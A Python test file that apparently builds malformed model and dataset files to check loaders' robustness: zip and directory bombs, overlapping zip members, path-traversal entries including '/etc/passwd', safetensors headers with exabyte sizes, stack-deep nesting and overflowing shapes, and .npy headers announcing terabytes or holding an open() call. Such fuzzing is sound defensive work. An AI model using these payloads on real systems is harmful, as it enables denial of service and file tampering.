"""Zip archives, safetensors headers and arrays that announce more than they hold, or unpack to far more."""

import struct
import zipfile
from io import BytesIO

import numpy as np

from attacks.attack import Attack, main
from attacks.writing import named, pickled, safetensors, storage, tensor, torch_zip, zipped

ZEROS = bytes(2**28)


def overlapping() -> bytes:
    """A file of torch.save whose thousand storages are the same bytes."""
    names = [str(number) for number in range(1000)]
    opcodes = b"(" + b"".join(tensor(storage(name, 2**18), 0, (2**18,), (1,)) for name in names) + b"t"
    content = torch_zip(opcodes, _0=bytes(2**20))
    source = zipfile.ZipFile(BytesIO(content))
    (first,) = (member for member in source.infolist() if member.filename.endswith("data/0"))
    directory = content.index(b"PK\x01\x02")
    entries = content[directory : content.rindex(b"PK\x05\x06")]
    name = first.filename.encode()
    entry = entries[entries.index(name) - 46 : entries.index(name) + len(name)]
    for number in names[1:]:
        other = f"archive/data/{number}".encode()
        entries += entry[:28] + struct.pack("<H", len(other)) + entry[30:46] + other
    count = len(source.infolist()) + len(names) - 1
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, count, count, len(entries), directory, 0)
    return content[:directory] + entries + end


def directory_bomb(entries: int) -> bytes:
    """An archive whose directory has very many empty members."""
    entry = struct.pack("<4s4B4HL2L5H2L", b"PK\x01\x02", 20, 3, 20, 0, 0, 0, 0, 33, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0) + b"a"
    directory = entry * entries
    return b"PK\x03\x04" + directory + struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 65535, 65535, len(directory), 4, 0)


def npy(header: str, data: bytes = b"") -> bytes:
    """An .npy file with any text as its header."""
    text = header.encode()
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(text)) + text + data


HUGE = "{'descr': '<f4', 'fortran_order': False, 'shape': (1000000000000,)}\n"
NESTED = "(" * 5000 + ")" * 5000 + "\n"


def deflated(array: bytes) -> bytes:
    """An archive of arrays whose only member is compressed."""
    return zipped({"images.npy": array}, zipfile.ZIP_DEFLATED)


def zeros() -> bytes:
    """An array of 256 MiB, which compresses to a part of a megabyte."""
    buffer = BytesIO()
    np.save(buffer, np.broadcast_to(np.uint8(0), (2**8, 2**10, 2**10, 1)))
    return buffer.getvalue()


ATTACKS = [
    Attack("a pickle that unpacks to 256 MiB", lambda _: zipped({"archive/data.pkl": ZEROS}, zipfile.ZIP_DEFLATED)),
    Attack("storages that unpack to 256 MiB", lambda _: zipped(
        {"archive/data.pkl": pickled(named(tensor(storage("0", 2**26), 0, (2**13, 2**11, 2, 2), (2**13, 4, 2, 1)))),
         "archive/data/0": ZEROS}, zipfile.ZIP_DEFLATED)),
    Attack("a thousand members that share their bytes", lambda _: overlapping()),
    Attack("a directory of two million members", lambda _: directory_bomb(2_000_000)),
    Attack("a directory of a hundred thousand members", lambda _: directory_bomb(100_000)),
    Attack("an archive in an archive", lambda _: zipped({"archive/data.pkl": zipped({"archive/data.pkl": b"N."})})),
    Attack("a member outside of the archive", lambda _: zipped({"../../data.pkl": pickled(b"N"), "/etc/passwd": b""})),
    Attack("a header of exabytes", lambda _: struct.pack("<Q", 2**63 - 1) + b"{"),
    Attack("a header that is deeper than any stack", lambda _: safetensors(b'{"a":' + b"[" * 2**20 + b"]" * 2**20 + b"}")),
    Attack("a header with very many names", lambda _: safetensors(b"{" + b",".join(
        b'"%d":{"dtype":"F32","shape":[],"data_offsets":[0,0]}' % number for number in range(60_000)) + b"}")),
    Attack("a shape whose product overflows", lambda _: safetensors(
        b'{"a":{"dtype":"F32","shape":[4611686018427387904,4,1,0],"data_offsets":[0,0]}}')),
    Attack("a number of megabytes in a header", lambda _: safetensors(
        b'{"a":{"dtype":"F32","shape":[' + b"9" * 2**21 + b'],"data_offsets":[0,0]}}')),
    Attack("a header in an encoding whose decoder is not loaded", lambda _: safetensors(
        '{"a":1}  '.encode("utf-32-le"))),
    Attack("tensors that overlap", lambda _: safetensors(
        b'{"a":{"dtype":"U8","shape":[4],"data_offsets":[0,4]},"b":{"dtype":"U8","shape":[4],"data_offsets":[0,4]}}', b"1234")),
    Attack("an array that announces terabytes", lambda _: npy(HUGE)),
    Attack("an array with a header of nested tuples", lambda _: npy(NESTED)),
    Attack("an array with a header of Python 2, which numpy warns of", lambda _: npy(
        "{'descr': '<f4', 'fortran_order': False, 'shape': (1L, 1, 3, 3)}\n", bytes(36))),
    Attack("an array with a call in its header", lambda marker: npy(f"open({str(marker)!r}, 'w')\n")),
    Attack("a dataset that announces terabytes", lambda _: zipped({"images.npy": npy(HUGE)}), kind="dataset"),
    Attack("a dataset with a header of nested tuples", lambda _: zipped({"images.npy": npy(NESTED)}), kind="dataset"),
    Attack("a dataset that unpacks to 256 MiB", lambda _: deflated(zeros()), kind="dataset"),
    Attack("arrays that unpack to 256 MiB", lambda _: zipped({"weight.npy": zeros()}, zipfile.ZIP_DEFLATED)),
]  # fmt: skip

if __name__ == "__main__":
    main(ATTACKS)
